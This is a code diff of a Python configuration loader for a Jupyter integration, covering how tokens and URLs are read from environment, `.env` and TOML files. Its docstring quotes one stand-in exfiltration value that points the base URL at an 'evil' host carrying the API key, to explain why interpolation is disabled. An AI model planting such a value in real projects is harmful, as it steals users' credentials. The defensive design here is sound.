@@ -1,40 +1,42 @@
-"""Where settings are written: the environment, `.env`, `pyproject.toml`, the user's own file.
+"""Reads settings from the environment, `.env`, `pyproject.toml` and the user's `config.toml`.
 
-Files are read again when they change. The environment is never changed, and a `.env` is read
-without interpolation: `${SWIFTASK_API_KEY}` inside a cloned project's address would send the
-user's token there.
+A file is read again when it has changed. The process's environment is never modified. A `.env` is
+read without interpolation: in a cloned project, `SWIFTASK_BASE_URL=https://evil/${SWIFTASK_API_KEY}`
+would otherwise send the user's token to that host.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterator, Mapping
+from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 from typing import Any
 
 from swiftask_jupyter.errors import ConfigurationError
 from swiftask_jupyter.support.structs import Redacted
 
-# What each setting is called in the environment and in a `.env`.
-NAMES = {
+# The variable of each setting, in the environment and in a `.env`.
+VARIABLES = {
     "token": "SWIFTASK_API_KEY",
     "agent": "SWIFTASK_AGENT_SLUG",
     "base_url": "SWIFTASK_BASE_URL",
     "dialect": "SWIFTASK_DIALECT",
     "connection": "SWIFTASK_CONNECTION",
 }
-# What a table of a TOML file may hold.
-KEYS = frozenset(("agent", "base_url", "dialect", "token_env", "connection", "connections"))
+# The keys that a table of settings in a TOML file may have.
+TABLE_KEYS = frozenset(("agent", "base_url", "dialect", "token_env", "connection", "connections"))
 
 
 class ResolvedSetting(Redacted, frozen=True):
-    """A setting's value and where it stands.
+    """The value of a setting and where it was set.
 
     Attributes:
-        origin: the place, in words.
-        file: the file of the project it stands in, which may be somebody else's; else empty.
+        value: the value.
+        origin: where it was set, in words, such as `SWIFTASK_API_KEY in the environment`.
+        file: the project's file that sets it, which another person may have written; empty for
+            every other origin.
     """
 
-    unshown = frozenset(("value",))
+    redacted_fields = frozenset(("value",))
 
     value: str
     origin: str
@@ -42,9 +44,15 @@ class ResolvedSetting(Redacted, frozen=True):
 
 
 class Table(Redacted, frozen=True):
-    """The settings of one TOML file."""
+    """The settings in one table of a TOML file.
 
-    unshown = frozenset(("values",))
+    Attributes:
+        values: the keys and values.
+        origin: the file, and the connection in it, in words.
+        file: the project's file; empty for the user's own `config.toml`.
+    """
+
+    redacted_fields = frozenset(("values",))
 
     values: Mapping[str, Any]
     origin: str
@@ -52,131 +60,144 @@ class Table(Redacted, frozen=True):
 
     @property
     def connections(self) -> Mapping[str, Any]:
-        """The named connections among them."""
+        """The tables of the named connections, by name."""
         named: Mapping[str, Any] = self.values.get("connections", {})
         return named
 
 
 class Sources:
-    """The places that settings come from, nearest first."""
+    """The environment and the files that settings are read from.
+
+    Args:
+        environ: the environment variables.
+        directory: where the search for `.env` and `pyproject.toml` begins; it goes up through the
+            parent directories. Default: the current directory at each reading.
+    """
 
     def __init__(self, environ: Mapping[str, str], directory: Path | None = None) -> None:
         self._environ = environ
         self._directory = directory
-        self._read: dict[Path, tuple[tuple[int, int], Any]] = {}
+        self._cache: dict[Path, tuple[tuple[int, int], Any]] = {}
 
     def layers(self) -> Iterator[dict[str, ResolvedSetting]]:
-        """Yield the settings of each place, the one that counts most first.
+        """Yield the settings of each source, in descending order of precedence.
 
         Raises:
-            ConfigurationError: a file can't be read, or holds what it must not.
+            ConfigurationError: a file cannot be read, or has an invalid setting.
         """
-        yield _named(self._environ, "the environment")
-        if (path := self._upward(".env")) is not None:
-            yield _named(self._cached(path, _dotenv), str(path), file=str(path))
+        yield _from_variables(self._environ, "the environment")
+        if (path := self._find_upward(".env")) is not None:
+            yield _from_variables(self._read(path, _dotenv), str(path), file=str(path))
         for table in self.tables():
-            yield self._settings(table)
+            yield self._from_table(table)
 
     def tables(self) -> Iterator[Table]:
-        """Yield the TOML files' settings: the project's, then the user's."""
+        """Yield the table of the nearest `pyproject.toml`, then that of the user's `config.toml`.
+
+        Raises:
+            ConfigurationError: a file cannot be read, or has an invalid setting.
+        """
         for directory in self._directories():
             path = directory / "pyproject.toml"
-            values = self._cached(path, _toml).get("tool") if path.is_file() else None
+            values = self._read(path, _toml).get("tool") if path.is_file() else None
             if isinstance(values, dict) and "swiftask" in values:
-                yield _checked(values["swiftask"], str(path), str(path))
+                yield _validated(values["swiftask"], str(path), str(path))
                 break
-        path = user_file()
+        path = user_config_path()
         if path.is_file():
-            yield _checked(self._cached(path, _toml), str(path), "")
+            yield _validated(self._read(path, _toml), str(path), "")
 
     def connection_names(self) -> list[str]:
-        """Return the names of all connections."""
+        """Return the sorted names of all configured connections."""
         return sorted({name for table in self.tables() for name in table.connections})
 
     def connection(self, name: str) -> dict[str, ResolvedSetting]:
         """Return the settings of a named connection.
 
         Raises:
-            ConfigurationError: there is none of that name.
+            ConfigurationError: no connection has that name.
         """
-        return self._settings(self._connection(name))
+        return self._from_table(self._connection_table(name))
 
-    def tokenless(self, name: str) -> str:
-        """Return why a named connection has no token."""
-        variable = self._connection(name).values.get("token_env")
+    def missing_token_reason(self, name: str) -> str:
+        """Return a sentence that says why a named connection has no token."""
+        variable = self._connection_table(name).values.get("token_env")
         if variable is None:
             return f"connection {name} names no token_env"
         return f"{variable}, which connection {name} names, is not set"
 
-    def _connection(self, name: str) -> Table:
+    def _connection_table(self, name: str) -> Table:
         for table in self.tables():
             if name in table.connections:
                 origin = f"connection {name} in {table.origin}"
-                return _checked(table.connections[name], origin, table.file)
-        known = self.connection_names()
-        there_is = f"there is: {', '.join(known)}" if known else "none is configured"
+                return _validated(table.connections[name], origin, table.file)
+        names = self.connection_names()
+        there_is = f"there is: {', '.join(names)}" if names else "none is configured"
         raise ConfigurationError(f"no connection {name!r}", advice=there_is)
 
-    def _settings(self, table: Table) -> dict[str, ResolvedSetting]:
-        found = {
+    def _from_table(self, table: Table) -> dict[str, ResolvedSetting]:
+        settings = {
             key: ResolvedSetting(value, table.origin, table.file)
             for key, value in table.values.items()
             if key not in {"token_env", "connections"}
         }
         if (name := table.values.get("token_env")) and (token := self._token(name, table)):
-            found["token"] = token
-        return found
+            settings["token"] = token
+        return settings
 
-    def _token(self, name: str, table: Table) -> ResolvedSetting | None:
-        """Look the token up where `token_env` says: in the environment, then in a `.env`."""
-        if table.file and not name.startswith("SWIFTASK_"):
+    def _token(self, variable: str, table: Table) -> ResolvedSetting | None:
+        """Read the variable that `token_env` names: from the environment, else from a `.env`."""
+        if table.file and not variable.startswith("SWIFTASK_"):
             raise ConfigurationError(
-                f"{table.origin} asks for the variable {name} as its token",
+                f"{table.origin} asks for the variable {variable} as its token",
                 advice="a project's file may name only variables that begin with SWIFTASK_",
             )
-        if value := self._environ.get(name):
-            return ResolvedSetting(value, f"{name} in the environment")
-        path = self._upward(".env")
-        value = self._cached(path, _dotenv).get(name) if path is not None else None
-        return ResolvedSetting(value, f"{name} in {path}", str(path)) if value else None
+        if value := self._environ.get(variable):
+            return ResolvedSetting(value, f"{variable} in the environment")
+        path = self._find_upward(".env")
+        value = self._read(path, _dotenv).get(variable) if path is not None else None
+        return ResolvedSetting(value, f"{variable} in {path}", str(path)) if value else None
 
     def _directories(self) -> Iterator[Path]:
-        here = self._directory
-        if here is None:
+        start = self._directory
+        if start is None:
             try:
-                here = Path.cwd()
-            except OSError:  # the directory was deleted
+                start = Path.cwd()
+            except OSError:  # the current directory was deleted
                 return
-        yield here
-        yield from here.parents
+        yield start
+        yield from start.parents
 
-    def _upward(self, name: str) -> Path | None:
+    def _find_upward(self, name: str) -> Path | None:
         return next((path for each in self._directories() if (path := each / name).is_file()), None)
 
-    def _cached(self, path: Path, read: Any) -> Any:
+    def _read(self, path: Path, parse: Callable[[Path], Any]) -> Any:
+        """Return the parsed file, from the cache if neither its time nor its size has changed."""
         try:
             state = path.stat()
             stamp = (state.st_mtime_ns, state.st_size)
-            if path not in self._read or self._read[path][0] != stamp:
-                self._read[path] = (stamp, read(path))
+            if path not in self._cache or self._cache[path][0] != stamp:
+                self._cache[path] = (stamp, parse(path))
         except (OSError, ValueError) as error:
             raise ConfigurationError(f"{path} can't be read ({error})") from None
-        return self._read[path][1]
+        return self._cache[path][1]
 
 
-def _named(values: Mapping[str, str], origin: str, file: str = "") -> dict[str, ResolvedSetting]:
-    return {
-        key: ResolvedSetting(value, f"{name} in {origin}", file)
-        for key, name in NAMES.items()
-        if (value := values.get(name))
-    }
-
-
-def user_file() -> Path:
-    """Return where the user's own settings stand."""
+def user_config_path() -> Path:
+    """Return the path of the user's `config.toml`, which need not exist."""
     import platformdirs
 
     return Path(platformdirs.user_config_dir("swiftask_jupyter", appauthor=False)) / "config.toml"
+
+
+def _from_variables(
+    values: Mapping[str, str], origin: str, file: str = ""
+) -> dict[str, ResolvedSetting]:
+    return {
+        key: ResolvedSetting(value, f"{variable} in {origin}", file)
+        for key, variable in VARIABLES.items()
+        if (value := values.get(variable))
+    }
 
 
 def _dotenv(path: Path) -> dict[str, str]:
@@ -189,22 +210,27 @@ def _dotenv(path: Path) -> dict[str, str]:
 def _toml(path: Path) -> dict[str, Any]:
     import tomllib
 
-    return tomllib.loads(path.read_text("utf-8-sig"))  # some editors begin with a mark
+    return tomllib.loads(path.read_text("utf-8-sig"))  # some editors write a byte order mark
 
 
-def _checked(values: Any, origin: str, file: str) -> Table:
+def _validated(values: Any, origin: str, file: str) -> Table:
+    """Return a table of settings after checking its keys and the types of its values.
+
+    A value of the wrong type must not be ignored: without its base URL, a connection would send its
+    token to the default host.
+    """
     if not isinstance(values, dict):
         raise ConfigurationError(f"{origin} is not a table of settings")
     if "token" in values:
         raise ConfigurationError(
             f"{origin} holds a token", advice='write token_env = "SWIFTASK_…" there instead'
         )
-    if unknown := sorted(values.keys() - KEYS):
+    if unknown := sorted(values.keys() - TABLE_KEYS):
         raise ConfigurationError(
             f"{origin} holds an unknown setting {unknown[0]!r}",
-            advice=f"known are: {', '.join(sorted(KEYS))}",
+            advice=f"known are: {', '.join(sorted(TABLE_KEYS))}",
         )
-    for key, value in values.items():  # one left out would send the token to the default host
+    for key, value in values.items():
         if key == "connections":
             if not isinstance(value, dict):
                 raise ConfigurationError(f"connections in {origin} is not a table of connections")
